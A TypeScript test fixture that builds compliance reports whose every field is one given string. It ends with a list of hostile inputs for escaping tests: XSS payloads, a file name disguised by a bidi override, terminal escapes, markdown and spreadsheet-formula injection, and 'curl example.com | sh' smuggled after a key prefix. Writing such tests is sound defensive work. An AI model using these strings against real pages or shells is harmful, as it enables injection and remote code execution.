import type { Report } from '../../../core/compliance/report.ts';
import { someFinding } from '../../some-finding.ts';
import { someKey, someReport, someWeek } from '../../some-report.ts';

const at = '2026-11-20T10:00:00Z';
const one = <T>(row: T) => ({ cut: 0, rows: [row] });

/** A report in which every text from a log is the same. */
export function reportWith(text: string): Report {
  const share = {
    name: text,
    federatedCalls: 1,
    keyCalls: 2,
    federatedSessions: 1,
    keySessions: 1,
    keys: 1,
    shareBefore: 0.5,
  };
  const finding = someFinding({
    rule: 'unexpected_subject',
    finding_key: text,
    actor: text,
    action: text,
    resource: text,
    source_ip: text,
    account_id: text,
    region: text,
    owner: text,
    evidence: { issuer: text, succeeded: 1, refused: 0, session_calls: 7, write_calls: 2 },
  });
  return someReport({
    owners: one(share),
    accounts: one(share),
    keys: { cut: 4, rows: [someKey(text)] },
    inventory: {
      importedAt: at,
      users: 2,
      activeKeys: 2,
      dormant: one({ user: text, slot: 1, rotatedAt: null, lastUsedAt: null, lastUsedService: text }),
    },
    regressions: one({ kind: 'key_back', name: text, principal: text, owner: text, detail: text, at }),
    subjects: one({
      platform: null,
      organization: text,
      repository: text,
      issuer: text,
      sessions: 1,
      calls: 2,
      writes: 1,
      refs: text,
      environments: text,
      roles: text,
      lastSessionAt: at,
    }),
    unexpected: one(finding),
    refusals: one({ issuer: text, subject: text, roleArn: text, attempts: 2, lastAttemptAt: at }),
    hygiene: one(finding),
    exemptions: one({ rule: text, match: text, reason: text, owner: text, until: '2026-12-01', findings: 0 }),
    gaps: [{ reason: text, originKind: text, calls: 3, principals: 1 }],
    coverage: one({ accountId: text, region: text, objects: 1, records: 2, rejects: 0, lastDeliveredAt: null }),
    delivery: { accounts: 1, places: 1, quiet: 1 },
    trail: { days: 7, dataEvents: 0, daysWithoutExchange: 2 },
    counts: { records: 100, rejects: 1, skipped: 0, brokenObjects: 0 },
  });
}

const nothing = { now: null, before: null };

/** The report of a week in which nothing was delivered. */
export const emptyReport: Report = someReport({
  weeks: [{ ...someWeek, calls: {}, sessions: {}, unattributed: 0, keys: 0, repositories: 0 }],
  trail: { days: 0, dataEvents: 0, daysWithoutExchange: 0 },
  counts: { records: 0, rejects: 0, skipped: 0, brokenObjects: 0 },
  headline: {
    score: nothing,
    keylessShare: nothing,
    keysInUse: { now: 0, before: null },
    repositories: { now: 0, before: null },
    unattributedShare: nothing,
    unexpectedSubjects: 0,
    keysReady: 0,
    hasPolicy: false,
  },
});

/** Texts that have deceived pages, spreadsheets and readers. */
export const hostileTexts = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "' onmouseover='alert(1)",
  'javascript:alert(1)',
  '\u202egnp.exe\u2066',
  '\u0000\u001b[31m',
  '</style></svg></table><h1>',
  '| --- | `code` [link](https://evil.example.com) ![x](y)',
  '=HYPERLINK("http://example.com")',
  'AKIA; curl example.com | sh',
  '🚚 שלום 日本語',
];
